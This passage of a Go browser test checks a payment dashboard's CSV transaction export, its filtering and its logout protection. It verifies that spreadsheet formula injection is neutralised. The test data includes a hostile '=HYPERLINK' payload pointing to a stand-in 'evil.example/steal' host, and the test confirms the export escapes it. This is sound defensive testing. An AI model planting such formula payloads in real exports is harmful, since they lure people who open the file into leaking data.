		t.Fatalf("CSV download: %d %q %q\n%s", d.Status, d.Type, d.Disposition, d.Body)
	}

	// Every row, newest first, against the API's view of each payment.
	line := func(idx, cells string) string {
		t.Helper()
		r := s.do(t, "GET", "/api/v2/merchant-transaction/"+idx+"/", sk, "")
		mustStatus(t, r, 200)
		return fmt.Sprintf("%s,%s,%s\n", r.Body["created_on"], idx, cells)
	}
	want := "created_on,idx,order_id,product,payer,amount_paisa,fee_paisa,refunded_paisa,state\n" +
		line(cake, "ORD-3,'-Cake,98XXXXXXX1,3000,0,0,Confirmed") +
		line(evil, `"'=HYPERLINK(""http://evil.example/steal?x=1"",""Click me"")","'+SUM(1,2)",98XXXXXXX1,2500,75,0,Completed`) +
		line(tea, "ORD-1,Tea,98XXXXXXX1,1000,30,400,Partially refunded")
	if d.Body != want {
		t.Fatalf("CSV:\n%s\nwant:\n%s", d.Body, want)
	}
	records, err := csv.NewReader(strings.NewReader(d.Body)).ReadAll()
	if err != nil || len(records) != 4 {
		t.Fatalf("CSV parse: %v, %d records", err, len(records))
	}
	for _, rec := range records[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("formula cell %q in %q", cell, rec)
			}
		}
	}
	if records[2][2] != "'"+evilOrder || records[2][3] != "'"+evilProduct {
		t.Fatalf("neutralised cells: %q", records[2])
	}

	// A filtered export from the page's form carries the filter; on a
	// phone the filters are folded away first.
	step(t, ctx, "filter", chromedp.Click(chromedp.CSS("details.filter-box summary")), chromedp.WaitVisible(chromedp.CSS("#filter")),
		chromedp.SetValue(chromedp.CSS("#state"), "Completed"), forget("#transactions, #count"), chromedp.Click(chromedp.CSS("#filter")),
		chromedp.WaitVisible(chromedp.CSS("#transactions")), chromedp.WaitVisible(chromedp.CSS("#csv")))
	wantText(t, ctx, "#count", "1 transactions")
	href, err = chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector("#csv").href`))
	if err != nil || !strings.Contains(href, "state=Completed") {
		t.Fatalf("filtered CSV link %q %v", href, err)
	}
	d = browserFetch(t, ctx, href)
	if d.Status != 200 || d.Body != "created_on,idx,order_id,product,payer,amount_paisa,fee_paisa,refunded_paisa,state\n"+
		line(evil, `"'=HYPERLINK(""http://evil.example/steal?x=1"",""Click me"")","'+SUM(1,2)",98XXXXXXX1,2500,75,0,Completed`) {
		t.Fatalf("filtered CSV: %d\n%s", d.Status, d.Body)
	}

	// Logged out, the same link gives the log-in page, not the CSV.
	step(t, ctx, "log out", chromedp.Click(chromedp.CSS("#logout")), chromedp.WaitVisible(chromedp.CSS("#login")))
	d = browserFetch(t, ctx, href)
	if !strings.HasSuffix(strings.SplitN(d.URL, "?", 2)[0], "/login/") || strings.Contains(d.Body, evil) || strings.Contains(d.Body, "amount_paisa") {
		t.Fatalf("CSV after logout: %d %s\n%s", d.Status, d.URL, d.Body)
	}
	s.ledgerOK(t)
}
